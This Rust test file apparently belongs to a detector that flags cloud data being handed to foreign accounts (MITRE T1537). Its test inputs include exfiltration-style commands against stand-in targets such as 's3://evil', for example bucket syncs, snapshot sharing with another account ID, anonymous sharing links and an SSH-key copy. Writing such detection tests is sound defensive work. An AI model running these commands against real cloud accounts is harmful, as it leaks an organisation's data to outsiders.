//! What the command lines of cloud tools say by themselves: T1537 without a byte from this Mac, and uploads whose command
//! names file and destination.

mod acts;
mod databases;
mod uploads;

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const OWN: &str = include_str!("commands/own.toml");

/// A tool as a package manager installs it.
fn tool(name: &'static str) -> Program {
    let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
    adhoc(path, name)
}

fn own() -> String {
    format!("{CORP}\n{OWN}")
}

/// One command by a shell's child, and nothing else.
fn run(line: &str, policy: &str) -> Told {
    let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
    let mut w = World::new();
    policy.clone_into(&mut w.policy);
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    w.spawn(1.0, &shell, tool(words[0]), &words);
    w.tell()
}

/// The same with an environment, under the policy of [`own`].
fn run_with(args: &[&str], env: &[&str]) -> Told {
    let mut w = World::new();
    w.policy = own();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let child = w.fork(1.0, &shell);
    let program = tool(args[0].to_owned().leak());
    w.exec_in(1.1, &child, program, args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
    w.tell()
}

#[test]
fn handing_data_over_is_told_and_its_twin_is_not() {
    let policy = own();
    let lines = include_str!("commands/handed_over.tsv").lines().filter(|line| !line.starts_with('#'));
    let mut told = 0;
    for line in lines {
        let [service, tenant, foreign, twin] = line.split('\t').collect::<Vec<_>>()[..] else {
            panic!("four columns: {line}")
        };
        let story = run(foreign, &policy);
        let alerts = story.alerts();
        assert_eq!(alerts.len(), 1, "{foreign}: {alerts:#?}");
        let alert = story.alert();
        assert_eq!(alert.service.as_deref(), Some(service), "{foreign}");
        assert_eq!(alert.tenant.as_deref(), Some(tenant), "{foreign}");
        assert_eq!(alert.tenant_verdict.as_str(), "foreign", "{foreign}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{foreign}");
        assert_eq!(alert.count, 1, "{foreign}");
        let quiet = run(twin, &policy);
        assert!(quiet.alerts().is_empty(), "{twin}: {:#?}", quiet.alerts());
        told += 1;
    }
    assert!(told >= 40, "{told} lines");
}

#[test]
fn m38_snapshot_shared_with_another_account() {
    let line = "aws ec2 modify-snapshot-attribute --snapshot-id snap-0 --create-volume-permission Add=[{UserId=999988887777}]";
    let told = run(line, CORP);
    let alert = told.alert();
    assert_eq!(alert.rules[0].id.as_ref(), "cw.transfer.control-plane");
    assert_eq!((alert.tenant.as_deref(), alert.bytes_out), (Some("999988887777"), 0));
    assert!(alert.reads.is_empty() && alert.flows.is_empty());
    for record in &told.records {
        let text = cloudward::sink::format::text(record);
        assert!(text.contains("999988887777") && !text.contains("after a sensitive read"), "{text}");
    }
}

#[test]
fn m39_bucket_synced_to_another() {
    let told = run("aws s3 sync s3://corp s3://evil --source-region eu-west-1", CORP);
    assert_eq!(told.alert().tenant.as_deref(), Some("evil"));
}

#[test]
fn copies_whose_account_the_line_does_not_name() {
    for line in [
        "aws ec2 copy-snapshot --source-region us-east-1 --source-snapshot-id snap-1",
        "aws --profile other ec2 copy-image --source-image-id ami-1 --source-region eu-west-1 --name x",
        "aws rds copy-db-snapshot --source-db-snapshot-identifier s --target-db-snapshot-identifier t",
    ] {
        let told = run(line, &own());
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
    }
    let open = run("s3cmd setacl --acl-public s3://corp-data/x", &own());
    assert_eq!(open.alert().tenant.as_deref(), Some("anyone"));
    run("s3cmd setacl --acl-private s3://corp-data/x", &own()).none();
}

/// A link for years; a short one into one's own account is everyday work.
#[test]
fn m40_links_that_let_in_whoever_has_them() {
    let policy = own();
    for (line, severity) in [
        (
            "az storage container generate-sas --name c --account-name corpstore --permissions r --expiry 2030-01-01",
            "high",
        ),
        (
            "az storage blob generate-sas -c c -n b --account-name evilstore --expiry 2026-01-01T00:30Z",
            "medium",
        ),
        ("aws s3 presign s3://corp-data/db.dump --expires-in 604800", "medium"),
        ("gsutil signurl -d 7d key.json gs://corp-data/x", "medium"),
        ("gcloud storage sign-url gs://corp-data/x --duration=12h", "medium"),
        ("rclone link drive:plan.docx", "high"),
        ("mega-export -a /plan.docx", "high"),
        ("az snapshot grant-access --duration-in-seconds 86400 -n snap -g rg", "medium"),
        (
            "oci os preauth-request create -ns corptenancy -bn b --name n --access-type ObjectRead --time-expires 2030-01-01",
            "high",
        ),
        ("coscli signurl cos://corp-data/x", "medium"),
        ("coscli signurl cos://corp-data/x -t 604800", "medium"),
        ("aliyun ossutil presign oss://corp-data/x --expires-duration 24h", "medium"),
        ("obsutil create-share obs://corp-data/x", "medium"),
        ("exo storage presign sos://corp-data/x --expires 168h", "medium"),
        ("yc storage s3 presign s3://corp-data/x --expires-in 86400", "medium"),
        ("uplink share sj://corp-data/x --url --not-after=+72h", "medium"),
        ("uplink share sj://corp-data/ --export-to x.access", "high"),
        ("box shared-links:create 123 file --access open", "high"),
        ("dropbox_uploader.sh share /plan.docx", "high"),
        (
            "m365 spo file sharinglink add --webUrl https://corp.sharepoint.com/sites/a --fileId b --type view --scope anonymous",
            "high",
        ),
        (
            "m365 spo folder sharinglink add --webUrl https://corp.sharepoint.com/sites/a --folderId b --scope=anonymous --type edit",
            "high",
        ),
    ] {
        let told = run(line, &policy);
        let alert = told.low();
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "bearer-link"), "{line}");
        assert_eq!(alert.severity.as_str(), severity, "{line}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{line}");
    }
    for line in [
        "aws s3 presign s3://corp-data/db.dump",
        "aws s3 presign s3://corp-data/db.dump --expires-in 900",
        "m365 spo file sharinglink add --webUrl https://corp.sharepoint.com/sites/a --fileId b --type view --scope organization",
        "m365 spo file sharinglink list --webUrl https://corp.sharepoint.com/sites/a --fileId b --scope anonymous",
        "gsutil signurl -d 10m key.json gs://corp-data/x",
        "box shared-links:create 123 file --access company",
        "uplink access list",
        "az storage container generate-sas --name c --account-name corpstore --expiry 2026-01-01T00:30Z",
    ] {
        run(line, &policy).none();
    }
}

/// Who is let in stands in a file, or the receiving account in the tool's own configuration.
#[test]
fn what_the_line_does_not_say_is_unknown() {
    let policy = own();
    for line in [
        "aws s3api put-bucket-policy --bucket corp-data --policy file://policy.json",
        "curl -X PUT --data @policy.json https://corp-data.s3.eu-west-1.amazonaws.com/?policy",
        "rclone copy corp-s3:corp-data gdrive:loot",
    ] {
        let told = run(line, &policy);
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
    }
    for line in [
        "borg transfer -r ssh://e@e.repo.borgbase.com/./r --other-repo ssh://c@c.rsync.net/./r",
        "glab repo mirror corp/app --direction push --url https://gitlab.com/evil/app.git",
        "gcloud artifacts repositories set-iam-policy r policy.json --location=l",
        "aws docdb copy-db-cluster-snapshot --source-db-cluster-snapshot-identifier s --target-db-cluster-snapshot-identifier t",
    ] {
        let told = run(line, &policy);
        assert_eq!(
            (told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()),
            (None, "unknown"),
            "{line}"
        );
    }
    // Nothing at all is known of where it goes; of an alias not even whether it is a folder.
    for line in [
        "rclone copy one:x two:y",
        "mc mirror one/x two/y",
        "mc cp --recursive one/x two/y",
        "mc mirror s3/corp-data two/y",
    ] {
        let told = run(line, &policy);
        assert!(told.note().iter().any(|note| note.kind.as_str() == "name-hidden"), "{line}");
    }
    for line in [
        "mc mirror ./dist two/y",
        "mc cp /private/tmp/x two/y",
        "mc cp two/y/x /private/tmp/x",
        "mc mirror one/x s3/site",
    ] {
        let told = run(line, &policy);
        told.none();
        assert!(told.coverage().is_empty(), "{line}: {:?}", told.coverage());
    }
}

/// Where no entry names an account of the service, each one that is named is foreign: of another service's entries, too.
#[test]
fn what_no_entry_names_is_foreign() {
    for (line, tenant) in [
        ("aws s3 sync s3://corp s3://evil", "evil"),
        ("gcloud storage cp -r gs://corp gs://evil", "evil"),
        ("gsutil -m rsync -r gs://corp gs://evil", "evil"),
        ("gcloud sql export sql inst gs://evil/dump.sql.gz --database=db", "evil"),
        ("bq extract ds.t gs://evil/t.csv", "evil"),
        ("azcopy copy https://corp.blob.core.windows.net/c https://evil.blob.core.windows.net/c", "evil"),
        (
            "az storage blob copy start --source-uri https://corp.blob.core.windows.net/c/b --account-name evil --destination-container c --destination-blob b",
            "evil",
        ),
    ] {
        let others = if line.starts_with("aws") { "" } else { CORP };
        let told = run(line, others);
        let alert = told.alert();
        let verdict = (alert.tenant.as_deref(), alert.tenant_verdict.as_str());
        assert_eq!(verdict, (Some(tenant), "foreign"), "{line}");
        assert!(alert.reasons.iter().all(|reason| reason.code.as_str() != "tenant-unknown"), "{line}");
    }
    // Whose account it is made in, nobody can tell.
    run("aws ec2 copy-snapshot --source-region us-east-1 --source-snapshot-id snap-1", "").low();
    run("aws s3 sync s3://corp s3://corp/archive", "").none();
}

/// What a tool only says it would do is not done; what looks like it, and is taken back or belongs to something else, is.
#[test]
fn a_dry_run_hands_nothing_over() {
    let policy = own();
    for line in [
        "aws s3 sync --dryrun s3://corp-data s3://evil",
        "aws s3 cp s3://corp-data/x s3://evil/x --dryrun",
        "aws ec2 modify-snapshot-attribute --dry-run --snapshot-id s --operation-type add --user-ids 999988887777",
        "aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission Add=[{UserId=999988887777}] --generate-cli-skeleton output",
        "rclone sync --dry-run corp-s3:corp-data evil-s3:evil",
        "rclone copy -n corp-s3:corp-data evil-s3:evil",
        "rclone sync --progress --dry-run corp-s3:corp-data evil-s3:evil",
        "gcloud storage rsync --recursive --dry-run gs://corp-data gs://evil",
        "rclone copy -Pn corp-s3:corp-data evil-s3:evil",
        "gsutil -m rsync -n -r gs://corp-data gs://evil",
        "gsutil -m rsync -rn gs://corp-data gs://evil",
        "gcloud storage rsync --dry-run gs://corp-data gs://evil",
        "azcopy copy --dry-run https://corpstore.blob.core.windows.net/c https://evil.blob.core.windows.net/c",
        "s3cmd sync --dry-run s3://corp-data s3://evil",
        "s3cmd sync -nr s3://corp-data s3://evil",
        "s5cmd --dry-run cp s3://corp-data/x s3://evil/x",
        "mc mirror --dry-run s3/corp-data s3/evil",
        "rclone copy --dry-run /Users/alice/.ssh/id_rsa evil-s3:evil",
    ] {
        run(line, &policy).none();
    }
    for line in [
        "rclone copy --dry-run=false corp-s3:corp-data evil-s3:evil",
        "rclone copy --some-new-option --dry-run corp-s3:corp-data evil-s3:evil",
        "rclone copy --exclude --dry-run corp-s3:corp-data evil-s3:evil",
        "aws ec2 modify-snapshot-attribute --dry-run --no-dry-run --snapshot-id s --operation-type add --user-ids 999988887777",
        "gsutil cp -n gs://corp-data/x gs://evil/x",
    ] {
        run(line, &policy).alert();
    }
}

#[test]
fn reading_and_listing_are_no_transfer() {
    for line in [
        "aws sts get-caller-identity",
        "aws s3 ls s3://evil",
        "aws s3 cp s3://evil/tool.zip /tmp/",
        "aws ec2 describe-snapshots --owner-ids 999988887777",
        "rclone ls evil-s3:evil",
        "gsutil ls gs://evil",
        "gcloud compute images list",
        "az storage account list",
        "gh repo view",
        "curl -o /Users/alice/Documents/corp/x https://content.dropboxapi.com/x",
    ] {
        run(line, &own()).none();
    }
}

/// Jobs, backups to one's own bucket, pushes, installations.
#[test]
fn everyday_lines_are_quiet() {
    let policy = own();
    let lines = include_str!("commands/everyday.txt").lines().filter(|line| !line.starts_with('#'));
    let told: Vec<_> = lines.map(|line| (line, run(line, &policy))).collect();
    assert!(told.len() >= 60, "{}", told.len());
    for (line, told) in told {
        assert!(told.alerts().is_empty(), "{line}: {:#?}", told.alerts());
    }
}

/// The name of a profile or role may tell whose account a copy is made in. Names are given at will: they accuse, and excuse
/// nothing.
#[test]
fn profiles_that_name_accounts_accuse() {
    let told = |args: &[&str], env: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        w.exec_in(1.1, &child, tool("aws"), args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
        w.tell()
    };
    let copy =
        ["aws", "ec2", "copy-snapshot", "--source-region", "us-east-1", "--source-snapshot-id", "snap-1"];
    let by_option = [&copy[..], &["--profile", "AdministratorAccess-999988887777"]].concat();
    for (args, env) in [
        (&by_option[..], &[][..]),
        (&copy, &["AWS_PROFILE=Admin-999988887777"]),
        (&copy, &["AWS_ROLE_ARN=arn:aws:iam::999988887777:role/x"]),
    ] {
        let told = told(args, env);
        assert_eq!(told.one_of_any_confidence().tenant.as_deref(), Some("999988887777"), "{args:?} {env:?}");
    }
    for env in [&[][..], &["AWS_PROFILE=ops"], &["AWS_PROFILE=AdministratorAccess-111122223333"]] {
        let told = told(&copy, env);
        assert_eq!(
            (told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()),
            (None, "unknown"),
            "{env:?}"
        );
    }
}

/// The project that commands run in may stand in the environment, and the place that something is copied from too.
#[test]
fn the_environment_names_the_project_and_where_from() {
    let told = run_with;
    let image =
        ["gcloud", "compute", "images", "create", "x", "--source-image=projects/corp-data/global/images/i"];
    told(&image, &[]).none();
    let there = told(&image, &["CLOUDSDK_CORE_PROJECT=evil-project"]);
    assert_eq!(there.alert().tenant.as_deref(), Some("evil-project"));
    told(&image, &["CLOUDSDK_CORE_PROJECT=corp-data"]).none();
    let by_option = [&image[..], &["--project=corp-data"]].concat();
    told(&by_option, &["CLOUDSDK_CORE_PROJECT=evil-project"]).none();
    // What the project owns is nobody else.
    let share = [
        "gcloud",
        "storage",
        "buckets",
        "add-iam-policy-binding",
        "gs://corp-data",
        "--member=serviceAccount:job@some-project.iam.gserviceaccount.com",
    ];
    told(&share, &["CLOUDSDK_CORE_PROJECT=some-project"]).none();
    told(&share, &["CLOUDSDK_CORE_PROJECT=other"]).alert();
    // A bucket is in no project that one works in.
    let bucket = ["gcloud", "storage", "cp", "gs://corp-data/x", "gs://evil/x"];
    assert_eq!(told(&bucket, &["CLOUDSDK_CORE_PROJECT=corp-data"]).alert().tenant.as_deref(), Some("evil"));
    let from = "RESTIC_FROM_REPOSITORY=s3:s3.amazonaws.com/corp-data";
    let copied = told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "copy"], &[from]);
    assert_eq!(copied.alert().tenant.as_deref(), Some("evil"));
    told(&["restic", "-r", "s3:s3.amazonaws.com/corp-backup", "copy"], &[from]).none();
    let hosts = [
        "MC_HOST_a=https://key:secret@s3.amazonaws.com",
        "MC_HOST_b=https://key:secret@s3.eu-west-1.amazonaws.com",
    ];
    let mirrored = told(&["mc", "mirror", "a/corp-data", "b/evil"], &hosts);
    assert_eq!(mirrored.alert().tenant.as_deref(), Some("evil"));
    told(&["mc", "mirror", "a/corp-data", "b/corp-backup"], &hosts).none();
    told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "snapshots"], &[from]).none();
}

/// The id of an object in a directory is nearly always one of one's own: it does not tell, and so it accuses nobody.
#[test]
fn an_objects_id_does_not_tell_whose_it_is() {
    let scope = "/subscriptions/1/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/corpstore";
    for line in [
        format!(
            "az role assignment create --role Reader --assignee 99999999-8888-7777-6666-555555555555 --scope {scope}"
        ),
        format!(
            "az role assignment create --role Reader --assignee-object-id 99999999-8888-7777-6666-555555555555 --scope {scope}"
        ),
    ] {
        let told = run(&line, &own());
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
        run(&line.replace("99999999-8888-7777-6666", "11111111-2222-3333-4444"), &own()).none();
    }
}

/// A body that stands in a file; links, which let in whoever has them.
#[test]
fn calls_that_do_not_say_whom_they_let_in() {
    for line in [
        "curl -d @body.json https://graph.microsoft.com/v1.0/me/drive/items/01A/invite",
        "curl -d {\"type\":\"view\",\"scope\":\"anonymous\"} https://graph.microsoft.com/v1.0/me/drive/items/01A/createLink",
        "curl --json {\"path\":\"/x\"} https://api.dropboxapi.com/2/sharing/create_shared_link_with_settings",
        "wget --post-data {\"path\":\"/x\"} https://api.dropboxapi.com/2/files/copy_reference/get",
        "az rest --method post --url https://management.azure.com/subscriptions/1/resourceGroups/rg/providers/Microsoft.Compute/snapshots/s/beginGetAccess?api-version=2023-04-02 --body {\"access\":\"Read\",\"durationInSeconds\":86400}",
    ] {
        let told = run(line, &own());
        assert_eq!(told.low().rules[0].techniques[0].as_ref(), "T1537", "{line}");
    }
}
